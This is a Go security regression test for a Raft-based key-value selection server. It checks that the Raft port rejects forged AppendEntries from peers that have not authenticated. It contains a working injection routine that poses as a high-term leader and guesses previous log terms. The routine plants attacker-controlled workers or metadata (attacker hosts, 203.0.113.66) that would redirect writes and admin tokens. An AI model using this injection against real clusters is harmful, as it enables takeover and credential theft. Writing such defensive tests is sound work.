package server_test

import (
	"errors"
	"fmt"
	"io"
	"testing"
	"time"

	"github.com/hashicorp/raft"

	"github.com/kvselect/kvselect/fsm"
	"github.com/kvselect/kvselect/server"
	"github.com/kvselect/kvselect/server/servertest"
)

// Test_RaftPortRefusesUnauthenticatedWrites plays the security review's
// attack on a real node: a bare raft transport, speaking as a leader of a
// higher term, sends AppendEntries carrying a forged catalog entry (a
// worker pointing at the attacker, or the node's own metadata rewritten so
// that followers would forward writes, with their admin token, to the
// attacker), guessing the previous log term until one is taken. Without a
// token the node takes it: that is what its start-up warning says, and it
// shows the attack works. With a token the Raft port refuses the
// connection before raft reads a byte, the catalog is unchanged, and the
// refusal is counted.
func Test_RaftPortRefusesUnauthenticatedWrites(t *testing.T) {
	evil := fsm.Worker{WorkerID: 666, ModelName: "m", Endpoint: "http://attacker:1", BlockSize: 16,
		DataParallelSize: 1, KVEventsEndpoints: map[uint32]string{0: "tcp://attacker:5557"}, TotalKVBlocks: 1000}
	for _, tt := range []struct {
		name  string
		token string
		forge func(s *server.Server) fsm.Command
		// applied reports whether the forged entry reached the catalog.
		applied func(s *server.Server) bool
	}{
		{"worker, no token", "", forgeWorker(evil), hasWorker(evil.WorkerID)},
		{"worker, token", "adm-secret", forgeWorker(evil), hasWorker(evil.WorkerID)},
		{"metadata, no token", "", forgeMetadata, metadataForged},
		{"metadata, token", "adm-secret", forgeMetadata, metadataForged},
	} {
		t.Run(tt.name, func(t *testing.T) {
			cfg := servertest.Config("n1", t.TempDir())
			if tt.token != "" {
				cfg.AuthToken, cfg.SelectionToken = tt.token, "sel-secret"
			}
			s := servertest.MustStart(t, cfg)
			servertest.Eventually(t, "n1 publishes its metadata", func() error {
				if _, ok := s.Node.Catalog().Node("n1"); !ok {
					return errors.New("not yet")
				}
				return nil
			})
			err := injectAsLeader(t, s.Node.RaftAddr(), tt.forge(s))
			if tt.token == "" {
				if err != nil {
					t.Fatalf("the attack failed on a node without a token: %v", err)
				}
				servertest.Eventually(t, "the forged entry is applied", func() error {
					if !tt.applied(s) {
						return errors.New("not yet")
					}
					return nil
				})
				return
			}
			if err == nil {
				t.Fatal("a node with a token took AppendEntries from a peer that never authenticated")
			}
			time.Sleep(100 * time.Millisecond) // anything taken would be applied by now
			if tt.applied(s) {
				t.Fatal("the forged entry reached the catalog")
			}
			refused, _ := scrapeNode(t, s, tt.token).value("kvselect_raft_connections_refused_total",
				map[string]string{"direction": "inbound", "reason": "no_handshake"})
			if refused < 1 {
				t.Errorf("refusals counted: %v, want at least 1", refused)
			}
		})
	}
}

func forgeWorker(w fsm.Worker) func(*server.Server) fsm.Command {
	return func(*server.Server) fsm.Command { return fsm.UpsertWorker{Worker: w} }
}

func hasWorker(id uint64) func(*server.Server) bool {
	return func(s *server.Server) bool {
		_, ok := s.Node.Catalog().Worker(id)
		return ok
	}
}

const attackerHTTP = "203.0.113.66:8092"

func forgeMetadata(s *server.Server) fsm.Command {
	m, _ := s.Node.Catalog().Node("n1")
	m.HTTPAddr = attackerHTTP
	return fsm.SetNode{Node: m}
}

func metadataForged(s *server.Server) bool {
	m, _ := s.Node.Catalog().Node("n1")
	return m.HTTPAddr == attackerHTTP
}

// injectAsLeader is the review's attack: a heartbeat at a high term learns
// the target's last log index, then AppendEntries with cmd after it, one
// guess of the previous entry's term after another, until one is taken. It
// returns the first transport error (a refused connection), nil once an
// entry is taken.
func injectAsLeader(t *testing.T, target string, cmd fsm.Command) error {
	t.Helper()
	trans, err := raft.NewTCPTransport("127.0.0.1:0", nil, 1, 2*time.Second, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	defer trans.Close()
	me := []byte(trans.LocalAddr())
	hdr := raft.RPCHeader{ProtocolVersion: raft.ProtocolVersionMax, ID: []byte("evil"), Addr: me}
	const term = 1000
	var resp raft.AppendEntriesResponse
	if err := trans.AppendEntries("n1", raft.ServerAddress(target), &raft.AppendEntriesRequest{RPCHeader: hdr, Term: term, Leader: me}, &resp); err != nil {
		return fmt.Errorf("probe: %w", err)
	}
	data, err := fsm.EncodeCommand(cmd)
	if err != nil {
		t.Fatal(err)
	}
	last := resp.LastLog
	for prevTerm := uint64(1); prevTerm < 20; prevTerm++ {
		req := &raft.AppendEntriesRequest{RPCHeader: hdr, Term: term, Leader: me, PrevLogEntry: last, PrevLogTerm: prevTerm,
			Entries:           []*raft.Log{{Index: last + 1, Term: term, Type: raft.LogCommand, Data: data}},
			LeaderCommitIndex: last + 1}
		if err := trans.AppendEntries("n1", raft.ServerAddress(target), req, &resp); err != nil {
			return fmt.Errorf("append: %w", err)
		}
		if resp.Success {
			return nil
		}
	}
	t.Fatal("no guess of the previous term was taken")
	return nil
}
